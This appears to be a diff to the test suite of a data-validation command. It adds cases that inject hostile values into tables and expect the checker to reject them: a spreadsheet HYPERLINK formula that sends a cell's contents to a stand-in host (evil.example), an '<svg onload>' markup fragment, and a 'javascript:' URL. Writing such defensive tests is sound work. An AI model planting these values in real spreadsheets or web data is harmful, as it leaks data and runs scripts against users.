@@ -53,7 +53,7 @@ describe('data:check on our tables', () => {
     expect(checked.find(({ name }) => name === 'wages')).toEqual({
       name: 'wages',
       rows: 504,
-      checks: ['schema', 'key', 'areas', 'state codes', 'order', 'provenance', 'checksum'],
+      checks: ['schema', 'text', 'key', 'areas', 'state codes', 'order', 'provenance', 'checksum'],
     });
   });
 });
@@ -65,6 +65,25 @@ describe('data:check on a broken copy names the table, the record, the column an
       name: 'rpp',
       edit: [/(?<row>alabama,\d{4},)[\d.]+/, '$<row>89.9.7'],
       failure: 'rpp, record 2, rpp_all_items: expected a number ("89.9.7")',
+    },
+    {
+      what: 'a name that a spreadsheet would run',
+      name: 'institutions',
+      edit: [/^(?<row>100663,\d*,)[^,]+,/m, '$<row>"=HYPERLINK(""http://evil.example/?""&A1,""School"")",'],
+      failure:
+        'institutions, record 1, name: "=HYPERLINK("http://evil.example/?"&A1,"School")": a spreadsheet',
+    },
+    {
+      what: 'markup in a place',
+      name: 'zip_codes',
+      edit: [/(?<=\n)(?<row>(?:[^,\n]*,){2})/, '<svg onload>$<row>'],
+      failure: 'zip_codes, record 1, zip: "<svg onload>',
+    },
+    {
+      what: 'a website that is a script',
+      name: 'institutions',
+      edit: [/https:\/\/www\.uab\.edu\/?/, 'javascript:alert(1)//'],
+      failure: 'institutions, record 1, website: "javascript:alert(1)//": is no web address',
     },
     {
       what: 'a number out of its range',
